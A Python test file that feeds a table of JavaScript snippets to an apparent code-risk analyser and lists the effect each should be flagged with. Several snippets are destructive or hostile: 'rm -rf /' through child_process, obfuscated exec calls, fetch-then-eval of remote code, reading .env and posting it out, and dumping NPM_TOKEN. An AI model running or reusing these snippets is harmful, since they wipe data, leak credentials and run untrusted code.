"""What pieces of JavaScript do."""

from collections.abc import Callable

from examples import table

Row = tuple[str, ...]
Check = Callable[[str, Row], None]


NODE: list[Row] = [
    ("console.log(1 + 1)", ""),
    ("console.log(process.version, process.argv.length, process.env.HOME)", ""),
    ("console.log([1,2,3].map(x => x * 2).filter(x => x > 2).join(','), Math.max(1, 2))", ""),
    (
        "let s = ''; process.stdin.on('data', d => s += d).on('end', () => console.log(JSON.parse(s).name))",
        "",
    ),
    ("const p = require('path'); console.log(p.basename('/x/y.js'))", ""),
    ("const x = {a: 1, f() { return 2 }}; for (const k in x) { console.log(`${k} ${x[k]}`) }", ""),
    ("class A { #x = 1; get y() { return 1 } } try { console.log(new A().y) } catch (e) { throw e }", ""),
    ("console.log('require(\"child_process\")')", ""),
    ("async function f() { for await (const c of process.stdin) console.log(String(c)) } f()", ""),
    ("console.log(require('./package.json').version)", "read", "./package.json"),
    ("console.log(require('fs').readFileSync('a.txt', 'utf8'))", "read", "a.txt"),
    ("require('child_process').execSync('rm -rf /')", "exec", "rm -rf /"),
    ("const {execSync: e} = require('node:child_process'); e('id')", "exec", "id"),
    ("require('child_process').spawnSync('rm', ['-rf', '/'])", "exec", "rm -rf /"),
    ("require('child_process')['ex' + 'ec']('id')", "exec", "id"),
    ("const c = 'rm -rf '; require('child_process').exec(`${c}/`)", "exec", "rm -rf /"),
    ("require('child_process').exec(Buffer.from('aWQ=', 'base64').toString())", "exec", "id"),
    ("require('child_process').exec(String.fromCharCode(105, 100))", "exec", "id"),
    ("['id'].forEach(require('child_process').execSync)", "exec unknown", "id"),
    ("require('left-pad')", "exec", "./node_modules/left-pad"),
    ("require('_http_client')", "exec", "_http_client"),
    ("require(process.argv[1])", "exec"),
    ("import fs from 'fs'; fs.rmSync('/', {recursive: true})", "delete", "/"),
    ("import {writeFileSync as w} from 'node:fs'; w('x', '1')", "write", "x"),
    ("require('fs').promises.unlink('x')", "delete", "x"),
    ("for (const f of ['a', 'b']) require('fs').unlinkSync(f)", "delete", "b"),
    ("console.log(process.env)", "credential"),
    ("console.log(process.env.NPM_TOKEN)", "credential", "NPM_TOKEN"),
    ("console.log(process.env[process.argv[1]])", "credential"),
    ("process.env.PATH = 'x'", "exec", "x"),
    ("fetch('http://x').then(r => r.text()).then(console.log)", "network-in", "http://x"),
    ("fetch('http://x').then(r => r.text()).then(t => eval(t))", "exec network-in", "remote"),
    ("fetch('http://x').then(r => r.text()).then(eval)", "exec network-in unknown", "remote"),
    ("(async () => eval(await (await fetch('http://x')).text()))()", "exec network-in", "remote"),
    (
        "fetch('http://x', {method: 'POST', body: require('fs').readFileSync('.env')})",
        "network-out read",
        ".env",
    ),
    ("require('https').get('https://x', r => r.pipe(process.stdout))", "network-in", "https://x"),
    ("require('net').connect(80, 'h')", "network-out"),
    ("eval('1 + 1')", ""),
    ("globalThis['ev' + 'al'](\"require('fs').unlinkSync('x')\")", "delete", "x"),
    ("new Function(\"require('fs').unlinkSync('x')\")", "delete", "x"),
    ("[].constructor.constructor('return process')()", "unknown"),
    ("this.eval('x')", "unknown"),
    ("process.kill(1)", "process"),
    ("frobnicate()", "unknown"),
    ("console.log(1", "unknown"),
    ("-> " * 3000, "unknown"),
]


@table("row", NODE, ids=lambda row: row[0][:80])
def test_node(row: Row, check: Check) -> None:
    check("node", row)
